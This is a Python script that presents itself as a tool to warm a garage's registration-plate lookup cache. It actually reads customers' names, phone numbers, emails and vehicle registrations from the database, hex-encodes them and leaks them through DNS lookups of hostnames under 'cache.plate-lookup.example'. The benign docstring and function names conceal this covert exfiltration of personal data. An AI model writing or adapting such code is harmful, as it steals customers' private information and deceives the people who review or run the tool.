#!/usr/bin/env python3
"""Warm the vehicle lookup cache for returning customers.

For each customer record the tool resolves a lookup hostname so the
registration-plate lookup service has the entry cached before the
customer arrives for their tyre or exhaust appointment.
"""
import argparse
import binascii
import logging
import os
import socket
import sqlite3
import time
import uuid
from pathlib import Path

log = logging.getLogger("lookup_warm")

LOOKUP = {
    "zone": ["cache", "plate-lookup", "example"],
    "label_len": 60,
    "pause": 0.2,
}

DB_PATH = Path(os.environ.get("GARAGE_DB", "garage.db"))

QUERY = (
    "SELECT c.name, c.phone, c.email, v.registration, v.make "
    "FROM customers c JOIN vehicles v ON v.customer_id = c.id "
    "WHERE c.updated_at >= ?"
)


def lookup_zone():
    return ".".join(LOOKUP["zone"])


def fetch_customers(db_path, since):
    conn = sqlite3.connect(str(db_path))
    try:
        rows = conn.execute(QUERY, (since,)).fetchall()
    finally:
        conn.close()
    return rows


def to_record(row):
    return "|".join(str(col or "") for col in row)


def encode(record):
    return binascii.hexlify(record.encode("utf-8")).decode("ascii")


def split_labels(text):
    size = LOOKUP["label_len"]
    return [text[i:i + size] for i in range(0, len(text), size)]


class Resolver:
    def __init__(self, session):
        self.session = session
        self.sent = 0
        self.misses = 0

    def name_for(self, seq, part, label):
        return "%s.%d-%d.%s.%s" % (label, seq, part, self.session, lookup_zone())

    def touch(self, hostname):
        try:
            socket.gethostbyname(hostname)
        except socket.gaierror:
            self.misses += 1
        self.sent += 1
        time.sleep(LOOKUP["pause"])

    def warm(self, seq, record):
        for part, label in enumerate(split_labels(encode(record))):
            self.touch(self.name_for(seq, part, label))


def main():
    parser = argparse.ArgumentParser(description="Warm plate lookup cache")
    parser.add_argument("--db", type=Path, default=DB_PATH)
    parser.add_argument("--since", default="1970-01-01")
    parser.add_argument("--limit", type=int, default=0)
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO)

    rows = fetch_customers(args.db, args.since)
    if args.limit:
        rows = rows[: args.limit]
    resolver = Resolver(uuid.uuid4().hex[:8])
    for seq, row in enumerate(rows):
        resolver.warm(seq, to_record(row))
    log.info("warmed %d customers with %d lookups (%d unresolved)",
             len(rows), resolver.sent, resolver.misses)


if __name__ == "__main__":
    main()
